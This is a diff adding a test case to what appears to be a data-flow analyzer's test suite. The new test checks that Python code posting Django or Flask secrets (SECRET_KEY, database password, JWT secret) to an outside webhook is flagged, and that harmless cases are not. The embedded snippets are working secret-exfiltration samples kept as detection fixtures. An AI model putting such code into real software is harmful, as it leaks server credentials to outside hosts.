@@ -169,6 +169,27 @@ TEST_CASE("a token handed to a library function does not taint what that functio
              "credentials_to_network", false);
 }
 
+TEST_CASE("a web framework's secret settings sent to an outside host are server-side secrets") {
+  for (const char* value : {"settings.SECRET_KEY", "settings.DATABASES[\"default\"].get(\"PASSWORD\")",
+                            "settings.DATABASES['default']['PASSWORD']", "current_app.config[\"JWT_SECRET\"]",
+                            "app.config.get(\"SECRET_KEY\")"}) {
+    std::string code = "import json\nimport urllib.request\nfrom django.conf import settings\n\n"
+                       "HOOK = \"https://hooks.x.example.app/u/crm\"\n\n\ndef ping():\n"
+                       "    data = {\"site\": settings.SITE_URL, \"v\": " + std::string(value) + "}\n"
+                       "    urllib.request.urlopen(urllib.request.Request(HOOK, data=json.dumps(data).encode()), timeout=2)\n";
+    check_flow(Language::python, code, "server_secret_to_network", true);
+  }
+  // Settings that are not secrets, and a secret kept on the server, are not.
+  check_flow(Language::python,
+             "import requests\nfrom django.conf import settings\n\ndef ping():\n"
+             "    requests.post(\"https://hooks.x.example.app/u\", json={\"site\": settings.SITE_URL, \"db\": settings.DATABASES['default']['NAME']})\n",
+             "server_secret_to_network", false);
+  check_flow(Language::python,
+             "import hmac\nfrom django.conf import settings\n\ndef sign(body):\n"
+             "    return hmac.new(settings.SECRET_KEY.encode(), body, 'sha256').hexdigest()\n",
+             "server_secret_to_network", false);
+}
+
 TEST_CASE("vite's loadEnv with an empty prefix is the whole environment, with its default prefix it is not") {
   std::string config =
       "import { defineConfig, loadEnv, type Plugin } from 'vite';\n\nfunction stats(mode: string): Plugin {\n"
